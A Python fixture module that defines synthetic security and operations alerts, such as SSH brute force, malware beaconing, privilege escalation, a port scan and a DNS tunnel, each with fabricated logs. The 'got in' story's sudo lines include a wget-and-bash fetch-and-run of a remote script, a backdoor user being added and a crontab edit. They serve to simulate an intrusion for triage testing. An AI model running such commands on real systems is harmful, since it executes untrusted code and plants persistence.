"""Alerts of many kinds, made up here, each with the log behind it (or none)."""

from typing import Any, NamedTuple


class Story(NamedTuple):
    name: str
    alert: dict[str, Any]
    log: str = ""
    source: str = ""


def _ssh(address: str, users: tuple[str, ...], host: str, times: int) -> str:
    lines = []
    for number in range(times):
        user = users[number % len(users)]
        at = f"Oct 15 21:{number % 60:02}:{(number * 7) % 60:02}"
        lines.append(
            f"{at} {host} sshd[{4000 + number}]: Failed password for invalid user {user} "
            f"from {address} port {30000 + number} ssh2"
        )
    return "\n".join(lines) + "\n"


def _sudo(clock: str, command: str) -> str:
    return f"Oct 16 {clock} jump-4 sudo:      ops : TTY=pts/1 ; PWD=/home/ops ; USER=root ; COMMAND={command}\n"


BRUTE_FORCE = Story(
    "brute force",
    {
        "timestamp": "2025-10-15T21:07:00.000+0000",
        "rule": {
            "id": "5712",
            "level": 10,
            "description": "sshd: brute force trying to get access to the system",
            "groups": ["sshd"],
        },
        "agent": {"id": "007", "name": "web-7", "ip": "10.3.0.7"},
        "data": {"srcip": "203.0.113.77", "srcuser": "deploy"},
        "full_log": "Oct 15 21:07:00 web-7 sshd[4011]: Failed password for deploy from 203.0.113.77 port 41022 ssh2",
    },
    _ssh("203.0.113.77", ("deploy", "admin", "root"), "web-7", 42) + _ssh("192.0.2.200", ("guest",), "web-7", 3),
    "wazuh",
)
GOT_IN = Story(
    "got in",
    {
        "timestamp": "2025-10-16T04:12:09.000+0000",
        "rule": {
            "id": "40112",
            "level": 12,
            "description": "sshd: multiple failures followed by a success",
            "groups": ["sshd"],
            "mitre": {"id": ["T1110"]},
        },
        "agent": {"id": "021", "name": "jump-4", "ip": "10.3.0.21"},
        "data": {"srcip": "198.51.100.66", "dstuser": "ops"},
        "full_log": "Oct 16 04:12:09 jump-4 sshd[611]: Accepted password for ops from 198.51.100.66 port 40100 ssh2",
    },
    _ssh("198.51.100.66", ("ops",), "jump-4", 14)
    + "Oct 16 04:12:09 jump-4 sshd[611]: Accepted password for ops from 198.51.100.66 port 40100 ssh2\n"
    + "Oct 16 04:12:10 jump-4 sshd[611]: pam_unix(sshd:session): session opened for user ops by (uid=0)\n"
    + _sudo("04:13:31", "/usr/bin/wget http://192.0.2.144/k.sh -O /tmp/k.sh")
    + _sudo("04:13:48", "/bin/bash /tmp/k.sh")
    + _sudo("04:14:02", "/usr/sbin/adduser helper9")
    + _sudo("04:14:40", "/usr/bin/crontab -e")
    + _sudo("04:15:55", "/bin/cat /etc/hostname"),
    "wazuh",
)
SERVICE_DOWN = Story(
    "service down",
    {
        "version": "4",
        "status": "firing",
        "receiver": "ops",
        "groupKey": '{}:{alertname="TargetDown"}',
        "groupLabels": {"alertname": "TargetDown"},
        "commonLabels": {"alertname": "TargetDown", "severity": "critical"},
        "alerts": [
            {
                "status": "firing",
                "labels": {
                    "alertname": "TargetDown",
                    "instance": "billing-3:9100",
                    "job": "billing",
                    "severity": "critical",
                },
                "annotations": {
                    "summary": "billing-3 is down",
                    "description": "billing-3:9100 of job billing does not answer.",
                },
                "startsAt": "2025-09-01T04:31:12Z",
                "endsAt": "0001-01-01T00:00:00Z",
                "fingerprint": "a1b2c3d4e5f60718",
            }
        ],
    },
    source="alertmanager",
)
DISK_FULL = Story(
    "disk full",
    {
        "title": "Disk almost full on db-2",
        "severity": "high",
        "host": "db-2",
        "mount": "/var/lib/postgresql",
        "used_percent": 97,
        "time": "2025-08-11T02:14:55Z",
    },
    "2025-08-11T02:10:01Z db-2 postgres[812]: ERROR: could not extend file: No space left on device\n"
    "2025-08-11T02:12:44Z db-2 postgres[812]: ERROR: could not write to file: No space left on device\n",
)
MALWARE = Story(
    "malware",
    {
        "event": {"kind": "alert", "severity": "critical", "created": "2025-07-02T11:45:09Z"},
        "message": "Malware detected: process beacon to a command and control server",
        "host": {"name": "LAPTOP-K42"},
        "user": {"name": "k.lehmann"},
        "process": {
            "name": "updater.exe",
            "hash": {"sha256": "9f2c4e8a1b3d5f7091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7a8"},
        },
        "destination": {"ip": "198.51.100.201", "domain": "telemetry-sync.example"},
    },
    "2025-07-02T11:44:58Z LAPTOP-K42 proxy[33]: CONNECT telemetry-sync.example 198.51.100.201 by user k.lehmann\n"
    "2025-07-02T11:45:03Z LAPTOP-K42 proxy[33]: CONNECT telemetry-sync.example 198.51.100.201 by user k.lehmann\n"
    "2025-07-02T11:45:08Z LAPTOP-K42 proxy[33]: CONNECT telemetry-sync.example 198.51.100.201 by user k.lehmann\n"
    "2025-07-02T11:45:09Z LAPTOP-K42 proxy[33]: CONNECT telemetry-sync.example 198.51.100.201 by user k.lehmann\n",
)
PRIVILEGE = Story(
    "privilege",
    {
        "schemaVersion": "2.0",
        "title": "A role attached an administrator policy to itself",
        "type": "PrivilegeEscalation:IAMUser/AdministrativePermissions",
        "severity": 8,
        "service": {
            "action": {
                "awsApiCallAction": {
                    "api": "PutRolePolicy",
                    "domainDetails": {"domain": "cloudformation.amazonaws.com"},
                }
            }
        },
        "resource": {"accessKeyDetails": {"userName": "ci-runner"}},
        "createdAt": "2025-02-14T18:12:22.316Z",
    },
)
SHELL = Story(
    "shell in container",
    {
        "rule": "Terminal shell in container",
        "priority": "Notice",
        "time": "2025-01-14T23:39:44.834631763Z",
        "output": "23:39:44.834631763: A shell was spawned (user=root container=5892b41bcf46 shell=sh)",
        "output_fields": {
            "container.id": "5892b41bcf46",
            "k8s.pod.name": "checkout-6d",
            "user.name": "root",
            "proc.name": "sh",
        },
    },
)
SCAN = Story(
    "port scan",
    {
        "timestamp": "2025-03-03T08:00:41.120394+0000",
        "event_type": "alert",
        "src_ip": "192.0.2.61",
        "dest_ip": "10.8.0.15",
        "alert": {
            "signature": "ET SCAN Suspicious inbound port sweep",
            "category": "Attempted Information Leak",
            "severity": 2,
        },
    },
    "".join(
        f"2025-03-03T08:00:{s:02}Z fw-1 kernel: DROP SRC=192.0.2.61 DST=10.8.0.15 DPT={2200 + s}\n" for s in range(12)
    ),
)
OWN_SCANNER = Story(
    "inside job",
    {
        "name": "Suspicious authentication failures",
        "level": "high",
        "source_ip": "10.44.0.12",
        "target_host": "hr-1",
        "username": "m.ruiz",
        "when": "2025-05-05T05:05:05Z",
    },
    _ssh("10.44.0.12", ("m.ruiz",), "hr-1", 9),
)
PHISHING = Story(
    "phishing",
    {
        "subject": "User reported a suspicious e-mail",
        "priority": "P3",
        "reporter": "h.osei@corp.example",
        "url": "http://login-portal.example/reset",
        "received": "2025-06-18T09:21:00+02:00",
    },
)
ERROR_RATE = Story(
    "error rate",
    {
        "labels": {"service": "checkout", "env": "prod"},
        "summary": "HTTP 5xx error rate of checkout is above 12 percent",
        "severity": "warning",
        "startsAt": "2025-04-04T16:20:00Z",
        "value": 12.5,
    },
)
DNS_TUNNEL = Story(
    "dns tunnel",
    {
        "alert_name": "Possible DNS tunnel",
        "sev": "medium",
        "client_ip": "10.12.9.4",
        "query": "a8f3.exfil-zone.example",
        "count": 530,
        "ts": 1751450000,
    },
    "".join(
        f"2025-07-02T09:53:{s:02}Z dns-1 named[91]: client 10.12.9.4 query: {s:04x}.exfil-zone.example\n"
        for s in range(20)
    ),
)
BARE = Story("bare", {"text": "Something looks odd in the warehouse system, please look", "from": "night shift"})

STORIES = (
    BRUTE_FORCE, GOT_IN, SERVICE_DOWN, DISK_FULL, MALWARE, PRIVILEGE, SHELL, SCAN, OWN_SCANNER, PHISHING, ERROR_RATE,
    DNS_TUNNEL, BARE,
)  # fmt: skip
